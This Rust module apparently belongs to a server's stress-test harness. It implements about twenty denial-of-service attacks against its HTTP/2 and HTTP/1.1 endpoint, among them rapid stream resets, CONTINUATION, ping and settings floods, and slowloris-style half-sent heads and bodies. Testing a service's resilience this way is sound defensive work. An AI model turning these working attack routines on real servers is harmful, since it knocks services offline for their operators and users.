//! The attacks: each is what its attacker does in one burst, over and over.

use std::net::SocketAddr;

use super::wire::{
    ACK, CONTINUATION, DATA, HEADERS, PING, PREFACE, PRIORITY, SETTINGS, WINDOW_UPDATE, Wire,
    frame, message, open, reset, setting,
};
use crate::form::amount;
use crate::policies::ask;

/// Frames of a burst. With the pause after each it makes some tens of thousands a second.
const BURST: usize = 64;

/// The host whose answer has a mebibyte.
pub(super) const LARGE: &str = "large";

/// What an attacker has in hand.
pub(super) struct Attacker {
    address: SocketAddr,
    wire: Option<Wire>,
    /// Connections that are left open.
    held: Vec<Wire>,
    /// Whether there is nothing more to be done than to hold them.
    pub(super) is_set: bool,
    /// How often the server closed a connection.
    pub(super) closed: u64,
    /// What was sent.
    pub(super) frames: u64,
}

pub(super) type Attack = fn(&mut Attacker);

/// How many of the attacks, from the first, are floods of one connection.
pub(super) const FLOODS: usize = 11;

/// Each by its name.
pub(super) const ATTACKS: &[(&str, Attack)] = &[
    ("rapid reset of whole calls", reset_whole_calls),
    ("rapid reset of calls begun", reset_calls_begun),
    ("resets provoked from the server", provoked_resets),
    ("continuation flood", continuations),
    ("ping flood", |a| a.flood(|_| ping())),
    ("settings flood", |a| {
        a.flood(|_| frame(SETTINGS, 0, 0, &[]));
    }),
    ("settings that move every window", |a| {
        a.flood(|at| setting(4, if at % 2 == 0 { 1_000_000 } else { 1 }));
    }),
    ("priority flood", |a| {
        a.flood(|_| frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 9]));
    }),
    ("window-update flood", |a| {
        a.flood(|_| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()));
    }),
    ("empty data", empty_data),
    ("unknown frames", |a| a.flood(|_| frame(0xbe, 0, 0, &[]))),
    ("slow readers of large answers", slow_readers),
    ("connections that say nothing", |a| {
        a.hold(300, None, None, |_| Vec::new());
    }),
    ("half a preface", |a| {
        a.hold(300, None, None, |_| PREFACE[..10].to_vec());
    }),
    ("half a frame", |a| {
        a.hold(300, Some(&plain()), None, |_| vec![0, 64, 0, 0]);
    }),
    ("ten thousand streams", many_streams),
    ("messages that are never whole", half_messages),
    ("heads of HTTP/1.1 that are never whole", |a| {
        a.hold(300, None, None, |_| HEAD.to_vec());
    }),
    ("heads of HTTP/1.1 without end", endless_heads),
    ("contents of HTTP/1.1 that are never whole", half_contents),
];

/// A head of HTTP/1.1 with one line begun.
const HEAD: &[u8] = b"POST /v1/hosts:decide HTTP/1.1\r\nhost: embargo\r\nx-line: ";

impl Attacker {
    pub(super) fn new(address: SocketAddr) -> Self {
        Self {
            address,
            wire: None,
            held: Vec::new(),
            is_set: false,
            closed: 0,
            frames: 0,
        }
    }

    /// Sends on the one connection, which is made anew when the server closes it.
    fn send(&mut self, settings: &[u8], make: impl FnOnce(&mut Wire) -> Vec<u8>) {
        if self.wire.is_none() {
            self.wire = Wire::greet(self.address, settings);
        }
        let Some(wire) = &mut self.wire else {
            return;
        };
        let bytes = make(wire);
        if wire.send(&bytes) && wire.drain() {
            self.frames += 1;
        } else {
            self.wire = None;
            self.closed += 1;
        }
    }

    fn flood(&mut self, make: impl Fn(usize) -> Vec<u8>) {
        self.is_set = true;
        for at in 0..BURST {
            self.send(&frame(SETTINGS, 0, 0, &[]), |_| make(at));
        }
    }

    /// Opens a connection, unless there are enough, sends so much on it, waits until the server has
    /// come so far, and leaves it. What comes before that is work like any other, and not abuse.
    fn hold(
        &mut self,
        most: usize,
        settings: Option<&[u8]>,
        until: Option<(u8, u8)>,
        send: impl Fn(&mut Wire) -> Vec<u8>,
    ) {
        let before = self.held.len();
        self.held.retain_mut(Wire::drain);
        self.closed += u64::try_from(before - self.held.len()).unwrap();
        if self.held.len() >= most {
            self.is_set = true;
        } else if !self.is_set
            && let Some(mut wire) = match settings {
                Some(settings) => Wire::greet(self.address, settings),
                None => Wire::connect(self.address),
            }
        {
            let bytes = send(&mut wire);
            wire.send(&bytes);
            self.frames += 1;
            if let Some((kind, flags)) = until {
                wire.wait_for(kind, flags);
            }
            self.held.push(wire);
        }
    }
}

/// Lines of a head, until the connection is closed.
fn endless_heads(attacker: &mut Attacker) {
    attacker.is_set = true;
    for _ in 0..BURST / 8 {
        let begun = attacker.wire.is_some();
        if !begun {
            attacker.wire = Wire::connect(attacker.address);
        }
        attacker.send(&[], |_| match begun {
            false => HEAD.to_vec(),
            true => vec![b'a'; 4_096],
        });
    }
}

/// Sends the beginning of a large content, on many connections.
fn half_contents(attacker: &mut Attacker) {
    attacker.hold(amount(60, 250), None, None, |_| {
        let mut bytes = HEAD.to_vec();
        let rest = "a\r\ncontent-type: application/json\r\ncontent-length: 16000000\r\n\r\n";
        bytes.extend(rest.as_bytes());
        bytes.resize(bytes.len() + 480_000, b' ');
        bytes
    });
}

fn plain() -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[])
}

fn reset_whole_calls(attacker: &mut Attacker) {
    attacker.is_set = true;
    for _ in 0..BURST / 4 {
        attacker.send(&plain(), |wire| {
            let stream = wire.stream();
            let call = [
                open("DecideHost", stream),
                message(stream, &ask("attacker")),
                reset(stream),
            ];
            call.concat()
        });
    }
}

fn reset_calls_begun(attacker: &mut Attacker) {
    attacker.is_set = true;
    for _ in 0..BURST / 2 {
        attacker.send(&plain(), |wire| {
            let stream = wire.stream();
            [open("DecideHost", stream), reset(stream)].concat()
        });
    }
}

/// A window that is moved by nothing is an error, for which the server itself resets the stream.
fn provoked_resets(attacker: &mut Attacker) {
    attacker.is_set = true;
    for _ in 0..BURST / 2 {
        attacker.send(&plain(), |wire| {
            let stream = wire.stream();
            let nothing = frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
            [open("DecideHost", stream), nothing].concat()
        });
    }
}

fn continuations(attacker: &mut Attacker) {
    attacker.is_set = true;
    for at in 0..BURST {
        attacker.send(&plain(), |wire| match (at, wire.last()) {
            // A field that is never the last.
            (1.., Some(stream)) => frame(CONTINUATION, 0, stream, &[0, 1, b'a', 1, b'b']),
            _ => frame(HEADERS, 0, wire.stream(), &[]),
        });
    }
}

fn empty_data(attacker: &mut Attacker) {
    attacker.is_set = true;
    for at in 0..BURST {
        attacker.send(&plain(), |wire| match (at, wire.last()) {
            (1.., Some(stream)) => frame(DATA, 0, stream, &[]),
            _ => open("DecideHost", wire.stream()),
        });
    }
}

/// Asks for answers of a mebibyte and lets one byte of each come.
fn slow_readers(attacker: &mut Attacker) {
    let byte = Some((DATA, 0));
    attacker.hold(40, Some(&setting(4, 1)), byte, |wire| {
        let stream = wire.stream();
        [open("DecideHost", stream), message(stream, &ask(LARGE))].concat()
    });
}

/// What is answered when all before it was read.
fn ping() -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8])
}

const PONG: Option<(u8, u8)> = Some((PING, ACK));

/// Forty connections with two hundred and fifty calls each, none of which ever sends its message.
fn many_streams(attacker: &mut Attacker) {
    attacker.hold(40, Some(&plain()), PONG, |wire| {
        let calls = (0..250).map(|_| open("DecideHost", wire.stream()));
        calls.chain([ping()]).collect::<Vec<_>>().concat()
    });
}

/// Sends the beginning of a large message, on many streams.
fn half_messages(attacker: &mut Attacker) {
    attacker.hold(10, Some(&plain()), PONG, |wire| {
        let calls = (0..amount(30, 250)).map(|_| {
            let stream = wire.stream();
            let mut frames = open("DecideHost", stream);
            // It says to have sixteen mebibytes, of which fifteen are one unknown field.
            let prefix = [0, 1, 0, 0, 0, 0x7a, 0x80, 0x80, 0xc0, 0x07];
            frames.extend(frame(DATA, 0, stream, &prefix));
            for _ in 0..8 {
                frames.extend(frame(DATA, 0, stream, &[0; 60_000]));
            }
            frames
        });
        calls.chain([ping()]).collect::<Vec<_>>().concat()
    });
}
